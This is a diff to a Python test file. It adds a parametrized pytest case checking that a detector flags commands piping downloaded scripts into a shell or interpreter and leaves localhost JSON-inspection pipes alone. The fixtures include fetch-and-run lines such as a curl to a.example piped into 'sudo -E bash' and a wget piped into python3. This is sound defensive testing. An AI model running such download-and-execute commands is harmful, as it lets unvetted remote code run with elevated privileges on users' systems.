@@ -64,6 +64,22 @@ def test_requirements_as_pip_compile_writes_them_are_read(text: str) -> None:
 
 
 @pytest.mark.parametrize(
+    ("command", "is_run"),
+    [
+        ("curl https://a.example/i.sh | sudo -E bash", True),
+        ("curl https://a.example/i.sh \\\n  | sh -s -- --yes", True),
+        ("wget -qO- https://a.example/i.py | python3 -", True),
+        ("curl -s http://localhost:8000/v2 | python -m json.tool", False),
+        ("curl -s http://localhost:8000/v2 | python3 -c 'import json'", False),
+        ("curl -s http://localhost:8000/v2 | python show.py", False),
+    ],
+)
+def test_what_an_address_gives_is_not_run(command: str, is_run: bool) -> None:
+    problems = [problem for _, problem in asked_for_in(f"```\n{command}\n```\n", ())]
+    assert any("what an address gives" in problem for problem in problems) is is_run
+
+
+@pytest.mark.parametrize(
     ("text", "line", "words"),
     [
         ("numpy\\\n-evil", 1, "numpy-evil"),
